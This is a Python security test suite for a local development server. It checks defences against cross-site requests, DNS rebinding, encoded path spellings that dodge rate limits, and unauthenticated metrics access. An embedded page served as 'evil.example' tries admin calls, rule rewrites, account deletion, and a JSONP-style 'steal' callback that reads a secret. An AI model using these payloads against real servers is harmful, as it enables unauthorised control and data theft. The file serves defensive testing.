"""Web pages of other sites, spellings of paths, and metrics: what a server must not be talked into.

The pages are opened by Chromium, against `doubloon dev`, whose administrator's token everybody knows. Needs chromium.
"""

import http.server
import json
import subprocess
import tempfile
import threading

from production import TOKEN
from server import Connection, Server

PAGE = """<!doctype html><title>page</title><script>
const at = "localhost:PORT", owner = {Authorization: "Bearer owner"};
const tried = (promise) => Promise.race([promise, new Promise((_, no) => setTimeout(no, 60000, new Error("no answer")))]);
async function status(path, options) {
  try { return (await tried(fetch("http://" + at + path, options))).status } catch (error) { return "blocked" }
}
function socket() {
  return tried(new Promise((yes, no) => {
    const socket = new WebSocket("ws://" + at + "/.ws?v=5&ns=demo-default-rtdb");
    socket.onerror = () => no(new Error("refused"));
    socket.onmessage = (event) => {
      const message = JSON.parse(event.data);
      if (message.t === "c") socket.send('{"t":"d","d":{"r":1,"a":"gauth","b":{"cred":"owner"}}}');
      else if (message.d.r === 1) yes(message.d.b.s);
    };
  })).catch((error) => error.message);
}
function script() {
  return new Promise((yes) => {
    window.steal = (value) => yes("read " + JSON.stringify(value));
    const script = document.createElement("script");
    script.src = "http://" + at + "/secret.json?auth=owner&callback=steal";
    script.onerror = script.onload = () => setTimeout(yes, 0, "nothing");
    document.head.append(script);
  });
}
(async () => {
  const found = {
    admin: await status("/admin/v1/status", {headers: owner}),
    rules: await status("/.settings/rules.json", {method: "PUT", headers: owner, body: '{"rules": {".write": true}}'}),
    accounts: await status("/emulator/v1/projects/demo/accounts", {method: "DELETE"}),
    read: await status("/secret.json", {headers: owner}),
    remove: await status("/secret.json", {method: "DELETE", headers: owner}),
    player: await status("/open.json", {method: "PUT", body: "1"}),
    signUp: await status("/v1/accounts:signUp?key=k", {method: "POST", body: "{}"}),
    socket: await socket(), script: await script(),
  };
  await fetch("/found", {method: "POST", body: JSON.stringify(found)});
})();
</script>"""

RULES = {"rules": {"open": {".read": True, ".write": True}}}


class Site:
    """A web site with one page, which posts what it found."""

    def __init__(self, page):
        self.found = None
        self.done = threading.Event()
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                self.answer("text/html", page.encode())

            def do_POST(self):
                site.found = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                self.answer("text/plain", b"")
                site.done.set()

            def answer(self, kind, body):
                self.send_response(200)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def visited_as(self, host):
        """What the page finds when Chromium opens it as a page of that host."""
        port = self.server.server_address[1]
        # The browser's helpers may still write into their profile when it has ended.
        with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
            browser = subprocess.Popen(
                ["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--remote-debugging-port=0",
                 f"--user-data-dir={profile}", f"--host-resolver-rules=MAP {host} 127.0.0.1", f"http://{host}:{port}/"],
                stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            try:
                if not self.done.wait(400):
                    raise RuntimeError(f"the page of {host} did not come to its end")
            finally:
                browser.kill()
                browser.wait()
        self.server.shutdown()
        return self.found


def development(program):
    server = Server(program, "--in-memory")
    port = server.await_address()
    owner = Connection(port)
    for path, body in (("/.settings/rules.json", RULES), ("/secret.json", 7)):
        if owner.ask("PUT", path, body).status != 200:
            raise RuntimeError(f"{path} was not set up")
    return server, port, owner


def pages_of_strangers_do_not_administer_development(server, checks):
    dev, port, owner = development(server.program)
    try:
        evil = Site(PAGE.replace("PORT", str(port))).visited_as("evil.example")
        for name in ("admin", "rules", "accounts"):
            checks.check(f"another site's page does not get to {name}", evil[name] in ("blocked", 403), evil)
        for name in ("read", "remove"):
            checks.check(f"nor does it {name} as owner", evil[name] in ("blocked", 401), evil)
        checks.check("nor over a socket", evil["socket"] == "invalid_token", evil)
        checks.check("nor by a script's address", evil["script"] == "nothing", evil)
        checks.check("a game's own page plays all the same", evil["player"] == 200 and evil["signUp"] == 200, evil)
        rebound = owner.ask("GET", "/admin/v1/status", headers={"Host": f"evil.example:{port}"})
        checks.check("a name that was bound to this machine does not administer it", rebound.status == 421, rebound.text)
        kept = owner.ask("GET", "/secret.json")
        checks.check("what nobody else may read is still there", kept.json == 7, kept.text)
        own = Site(PAGE.replace("PORT", str(port))).visited_as("localhost")
        checks.check(
            "a page of this machine administers it",
            [own[name] for name in ("admin", "rules", "accounts", "read", "remove", "socket")] == [200, 200, 200, 200, 200, "ok"],
            own)
    finally:
        dev.stop()


def no_spelling_gets_around_a_limit(server, checks):
    """The limit of account calls is the strictest: 100 at once, then 10 a second."""
    spellings = [
        "//v1/accounts:lookup?key=k", "/%761/accounts:lookup?key=k", "/v1//accounts%3Alookup?key=k",
        "http://game.example.com/v1/accounts:lookup?key=k", "/identitytoolkit%2Egoogleapis.com/v1/accounts:lookup?key=k",
    ]
    for number, spelling in enumerate(spellings):
        unknown = server.client(f"198.51.100.{20 + number}")
        # Enough of them to go over the limit also where some take long.
        statuses = []
        while 429 not in statuses and len(statuses) < 1500:
            statuses.append(unknown.ask("POST", spelling, {}).status)
        checks.check(f"{spelling} counts as an account call", statuses[0] == 400 and 429 in statuses, sorted(set(statuses)))


def metrics_are_not_for_strangers(server, checks):
    unknown = server.client()
    answer = unknown.ask("GET", "/metrics")
    checks.check("metrics want a key", answer.status == 401 and "doubloon_" not in answer.text, answer.text[:100])
    answer = unknown.ask("GET", "/metrics", headers={"Authorization": f"Bearer {TOKEN}"})
    checks.check("with one they are given", answer.status == 200 and "doubloon_commits_total" in answer.text, answer.text[:100])
    for path in ("/healthz", "/readyz"):
        checks.check(f"{path} is for everybody", unknown.ask("GET", path).status == 200)


CHECKS = [pages_of_strangers_do_not_administer_development, no_spelling_gets_around_a_limit, metrics_are_not_for_strangers]
